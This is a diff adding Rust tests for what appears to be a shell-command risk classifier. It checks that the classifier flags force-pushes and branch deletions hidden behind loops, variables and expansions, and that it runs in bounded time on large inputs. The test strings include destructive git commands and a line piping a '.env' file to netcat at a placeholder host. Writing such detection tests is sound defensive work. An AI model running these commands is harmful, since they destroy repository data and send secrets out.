@@ -509,7 +509,7 @@ fn a_text_that_is_not_analysed_is_named_only_if_it_is_worse() {
     for command in [
         "git -c alias.x='!touch src' x",
         "emulate sh -c 'ls'",
-        "x=ls; $x",
+        "x=$y; $x",
         "sched +1 ls",
         "echo ls | at now",
     ] {
@@ -591,6 +591,83 @@ fn a_text_of_any_size_is_bounded() {
             let seconds = start.elapsed().as_secs_f64();
             assert!(seconds < 1.0, "{command} {piece:?}: {seconds} s");
         }
+    }
+}
+
+/// Joins numbered pieces of a command line.
+fn repeated(times: usize, piece: impl Fn(usize) -> String) -> String {
+    (0..times).map(piece).collect()
+}
+
+#[test]
+fn a_limit_that_leaves_out_a_possible_value_is_not_silent() {
+    let words = |most| repeated(most, |at| format!("w{at} "));
+    let branches = repeated(64, |at| format!("b{at},"));
+    for command in [
+        format!("for o in --force {}; do git push $o; done", words(70)),
+        format!(
+            "for o in {}; do {} done; o=--force; git push $o",
+            words(60),
+            "ls $o; ".repeat(5)
+        ),
+        format!("git branch {{-D,{branches}x}}"),
+        format!("echo --force | {}xargs git push", "sort | ".repeat(17)),
+        format!("a=xxxxxxxx; {}git push $a", "a=$a$a; ".repeat(20)),
+        format!("parallel ls ::: {} ::: a b", words(40)),
+    ] {
+        assert_eq!(class(&command), CommandClass::Unknown, "{command}");
+    }
+    // There is room for what people write.
+    for command in [
+        format!("for o in {} --force; do git push $o; done", words(60)),
+        format!(
+            "a=({} --force); for o in $a; do git push $o; done",
+            words(60)
+        ),
+        format!("o='--force {}'; git push $o", "x".repeat(2000)),
+        format!("git push {{--force,{}}}", words(1).trim()),
+    ] {
+        assert_eq!(class(&command), CommandClass::Destroys, "{command}");
+    }
+    for command in [
+        format!("for i in {}; do echo $i; done", words(300)),
+        format!("m=a; {}git commit -m \"$m\"", "m+=b; ".repeat(100)),
+        format!("{}ls $v1", repeated(300, |at| format!("v{at}=a; "))),
+    ] {
+        assert!(class(&command) < CommandClass::Unknown, "{command}");
+    }
+}
+
+/// The time grows with the number of commands, words, variables and functions, not with their product.
+#[test]
+fn possible_values_take_bounded_time() {
+    let words = repeated(60, |at| format!("w{at} "));
+    for text in [
+        repeated(250, |at| format!("v{at}=a; "))
+            + "ls "
+            + &repeated(1200, |at| format!("$v{} ", at % 250)),
+        "v=a;".to_owned() + &format!("git {};", "$v ".repeat(8)).repeat(390),
+        format!("for x in {words};do {}done", "ls $x;".repeat(380)),
+        repeated(190, |at| format!("f{at}() {{ git \"$@\"; }};"))
+            + &repeated(190, |at| format!("f{at} log a b c;")),
+        format!(
+            "f() {{ {}}};{}",
+            "git $1;".repeat(190),
+            "f log;".repeat(190)
+        ),
+        repeated(380, |at| format!("f{at}() {{ f{} \"$@\"; }};", at + 1)) + "f0 x",
+        "a+=(x y z);".repeat(380) + "ls $a",
+        "a+=xyz;".repeat(380) + "ls $a",
+        "a=xxxxxxxx;a=$a$a;a=$a$a;a=$a$a;a=$a$a;".to_owned() + &"ls $a $a $a;".repeat(350),
+        "f=.env;".to_owned() + &format!("cat {}| nc h 1;", "$f ".repeat(8)).repeat(190),
+        "curl -so a U;".to_owned() + &"tee y b|".repeat(380) + "cat > b",
+        "d=src;".to_owned() + &"git -C $d status;".repeat(380),
+    ] {
+        let start = Instant::now();
+        class(&text);
+        let seconds = start.elapsed().as_secs_f64();
+        let start: String = text.chars().take(60).collect();
+        assert!(seconds < 1.5, "{start}: {seconds} s");
     }
 }
 
